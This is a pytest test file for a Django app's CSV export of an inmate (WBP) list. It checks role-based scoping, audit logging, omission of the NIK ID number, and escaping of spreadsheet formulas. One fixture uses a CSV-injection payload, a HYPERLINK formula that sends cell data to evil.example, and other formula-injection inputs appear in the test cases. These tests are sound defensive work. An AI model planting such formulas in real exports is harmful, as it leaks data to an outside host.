"""The WBP list as CSV: the same scope and filters as the page, no NIK, audited, safe in a spreadsheet."""

import csv
import io

import pytest
from django.urls import reverse

from audit.exports import spreadsheet_safe
from audit.models import AuditEvent
from tests.factories import PersonFactory, admit

pytestmark = pytest.mark.django_db

EXPORT = reverse("inmates:admission-export")


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def test_staff_export_their_wbp_with_the_filters_and_it_is_audited(login, staff, person, institution):
    admit(PersonFactory(full_name="Joko Widodo Santoso"), institution)
    response = login(staff).get(EXPORT, {"q": "Ahmad"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = _rows(response)
    assert rows[0][:3] == ["Full name", "Register number", "Sex"]  # the SDP import's own columns
    assert [row[0] for row in rows[1:]] == ["Ahmad Fauzan"]
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert event.actor == staff and event.details["export"] == "wbp_list"
    assert event.details["filters"] == {"q": "Ahmad"}


def test_the_export_never_holds_the_nik(login, staff, person):
    body = b"".join(login(staff).get(EXPORT).streaming_content).decode()
    assert person.nik not in body and person.nik[:6] not in body


def test_outsiders_export_nothing_of_another_institution(login, outsider, person):
    rows = _rows(login(outsider).get(EXPORT, {"status": "all"}))
    assert rows[1:] == []


def test_regional_officers_export_their_region_read_only(login, regional, person):
    rows = _rows(login(regional).get(EXPORT))
    assert [row[0] for row in rows[1:]] == ["Ahmad Fauzan"]


def test_a_name_typed_as_a_formula_is_exported_as_text(login, staff, institution):
    admit(PersonFactory(full_name='=HYPERLINK("http://evil.example/?x="&A1,"klik")'), institution)
    admit(PersonFactory(full_name="@SUM(1+1)"), institution)
    rows = _rows(login(staff).get(EXPORT))
    names = sorted(row[0] for row in rows[1:])
    assert names == ['\'=HYPERLINK("http://evil.example/?x="&A1,"klik")', "'@SUM(1+1)"]


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-5", "'-5"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Budi = Bapak", "Budi = Bapak"),
        ("", ""),
        (None, ""),
        (17, "17"),
    ],
)
def test_spreadsheet_safe(value, safe):
    assert spreadsheet_safe(value) == safe


def test_the_export_takes_a_fixed_number_of_queries(login, staff, institution, django_assert_max_num_queries):
    for n in range(30):
        admit(PersonFactory(full_name=f"Orang {n:02d}"), institution)
    client = login(staff)
    with django_assert_max_num_queries(12):
        rows = _rows(client.get(EXPORT))
    assert len(rows) == 31


def test_the_list_offers_the_download_with_its_filters(login, staff, person):
    page = login(staff).get(reverse("inmates:admission-list"), {"q": "Ahmad", "page": "1"}).content.decode()
    assert f'href="{EXPORT}?q=Ahmad"' in page
